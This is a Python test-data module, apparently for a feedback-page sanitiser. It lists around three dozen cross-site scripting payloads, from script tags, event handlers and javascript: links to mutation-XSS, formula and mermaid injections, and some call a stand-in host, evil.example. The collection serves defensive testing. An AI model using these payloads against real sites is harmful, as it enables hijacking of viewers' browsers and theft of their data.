"""What a student may write to reach into the browser of whoever opens the feedback page.

`taken()` stands for any script; `http://evil.example` for any address.
"""

RUN = "window.taken=1;alert(1)"
FAR = "http://evil.example"

HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script_far": f"<script src='{FAR}/x.js'></script>",
    "onerror": f"<img src=x onerror='{RUN}'>",
    "onload_svg": f"<svg onload='{RUN}'><circle r=9></svg>",
    "onfocus": f"<input autofocus onfocus='{RUN}'>",
    "ontoggle": f"<details open ontoggle='{RUN}'>more</details>",
    "link": f"[here](javascript:{RUN})",
    "link_in_pieces": f"<a href='java&#10;script:{RUN}'>here</a>",
    "link_data": f"<a href='data:text/html,<script>{RUN}</script>'>here</a>",
    "picture_far": f"![p]({FAR}/p.png) <img srcset='{FAR}/q.png 1x'>",
    "picture_svg": f"![p](data:image/svg+xml,<svg/onload={RUN}>)",
    "frame": f"<iframe srcdoc='<script>parent.taken=1</script>' src='{FAR}'></iframe>",
    "object": f"<object data='{FAR}/o'></object><embed src='{FAR}/e'>",
    "style": f"<style>@import '{FAR}/s.css'; body {{display: none}}</style>",
    "style_attribute": f"<p style='background:url({FAR}/b.png);position:fixed;inset:0'>over</p>",
    "stylesheet": f"<link rel=stylesheet href='{FAR}/s.css'><link rel=dns-prefetch href={FAR}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={FAR}'>",
    "base": f"<base href='{FAR}/'><a href='#double'>up</a>",
    "form": f"<form action='{FAR}'><button autofocus>ok</button></form>",
    "mathml": f"<math><mtext><a xlink:href='javascript:{RUN}' href='javascript:{RUN}'>x</a></math>",
    "mathml_mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'></table></mtext></math>",
    "svg_mutation": f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'></svg>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "title": f"<title><img src=x onerror={RUN}></title><textarea><b></textarea><img src=x>",
    "template": f"<template><img src=x onerror={RUN}></template><template shadowrootmode=open>",
    "comment": f"<!--><img src=x onerror={RUN}>--> <![CDATA[><img src=x onerror={RUN}>]]>",
    "formula": rf"$\text{{<img src=x onerror={RUN}>}}$ $\href{{javascript:{RUN}}}{{x}}$",
    "formula_style": rf"$\style{{position:fixed}}{{x}}$ $$\text{{</math><script>{RUN}</script>}}$$",
    "formula_entity": rf"$\text{{&lt;img src=x onerror={RUN}&gt;}}$ <tex>&lt;script&gt;</tex>",
    "alt": f'![" onerror={RUN} x="](x.png) ![$\\text{{" onerror={RUN}}}$](y.png)',
    "title_attribute": f"[a](http://a.example \"' onmouseover='{RUN}\")",
    "fence": f'```{RUN}"><img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```',
    "mermaid": f"```mermaid\ngraph TD; A[<img src=x onerror={RUN}>]\n```",
    "out_of_place": f"</div></details></article></main></body><script>{RUN}</script><main id=x>",
    "names": "<p id='double' name='double' class='total full'>26 / 26</p><img name=cookie>",
    "end_of_style": f"</style></title></textarea></script><img src=x onerror={RUN}>",
}
